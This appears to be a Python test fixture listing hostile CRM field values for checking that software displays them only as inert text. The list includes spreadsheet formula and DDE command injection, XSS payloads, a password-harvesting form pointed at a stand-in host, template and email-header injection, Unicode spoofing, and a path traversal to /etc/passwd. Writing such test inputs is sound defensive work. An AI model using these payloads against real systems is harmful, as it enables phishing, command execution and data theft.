"""Hostile text as it comes out of a CRM; whatever shows or carries it must leave it text."""

HOSTILE = (
    '=HYPERLINK("https://tracker.example","Click")',
    "![x](https://tracker.example/pixel.png)",
    "[Northwind](javascript:alert(1))",
    "{{7*7}} {% for x in y %}",
    '<form action="https://tracker.example"><input name="password">',
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "Acme \u202egnp.exe\u202c",
    "Ac\u200bme\ufeff \u2066Ltd\u2069",
    "Acme\r\nBcc: everyone@tracker.example\r\n\r\nbody",
    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:other; a, b\\n",
    "../../etc/passwd\x00",
    "CON",
    "+1+1|cmd' /C calc'!A0",
    "Ægir & Søn \U0001f680 株式会社 50% off? #1 ~`$x$`",
)
